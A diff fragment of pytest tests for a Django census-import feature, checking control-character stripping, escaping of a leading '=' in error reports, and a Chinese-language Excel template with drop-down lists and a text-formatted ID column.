+    assert (error["row"], error["column"], error["value"]) == (3, "身份证号码", "123")
+    report = load_workbook(record.error_report.path).active
+    assert report.cell(row=2, column=2).value == "'=李四"  # control characters dropped, then escaped
+    assert report.cell(row=2, column=10).value == "bell"
+
+
+@pytest.mark.django_db
+def test_control_characters_are_not_stored(tonghai_official, campaign, tmp_path):
+    """PostgreSQL refuses NUL in text; no control character reaches the registry."""
+    numbers = files.ids("530423", 2, seed=52)
+    rows = [
+        ["张三", "", "", numbers[0], "侨眷", "530423101", "", "", "x" * 5000],  # pushes the NULs past the sniffed head
+        ["王\x00五\x01", "", "", numbers[1], "侨眷", "530423101", "", "", "备\x00注\x1b"],
+    ]
+    path = files.write_csv(tmp_path / "nul.csv", SHORT_HEADERS, rows)
+
+    outcome = run_census_import(path, path.name, user=tonghai_official, campaign=campaign, commit=True)
+
+    assert outcome.errors == [] and outcome.new == 2
+    person = Person.objects.get(name="王五")
+    assert person.notes == "备注"
+
+
+# ---------------------------------------------------------------- the template
+
+
+def test_template_has_chinese_headers_and_drop_downs():
+    from io import BytesIO
+
+    book = load_workbook(BytesIO(census_template_workbook(max_rows=50)))
+    sheet = book["侨情登记"]
+    headers = [c.value for c in sheet[1]]
+    assert headers[:6] == ["姓名", "性别", "出生日期", "身份证号码", "类别", "居住地区划代码"]
+    lists = {str(dv.sqref)[0]: dv.formula1 for dv in sheet.data_validations.dataValidation}
+    assert lists["E"] == '"归侨,侨眷,华侨,外籍华人,留学人员,留学人员眷属"'
+    assert lists["B"] == '"男,女"'
+    assert sheet["D2"].number_format == "@"  # ID column is text: Excel keeps all 18 digits
+    assert "填写说明" in book.sheetnames
+
+
+@pytest.mark.django_db
+def test_the_filled_template_imports(tonghai_official, campaign, tmp_path):
+    from io import BytesIO
+
+    book = load_workbook(BytesIO(census_template_workbook(max_rows=10)))
+    sheet = book["侨情登记"]
+    number = files.ids("530423", 1, seed=61)[0]
+    for column, value in {"A": "张三", "D": number, "E": "华侨", "F": "530423102", "H": "泰国"}.items():
+        sheet[f"{column}2"] = value
+    path = tmp_path / "template.xlsx"
+    book.save(path)
+
+    outcome = run_census_import(path, path.name, user=tonghai_official, campaign=campaign, commit=True)
+    assert (outcome.rows, outcome.new, outcome.invalid) == (1, 1, 0), outcome.errors
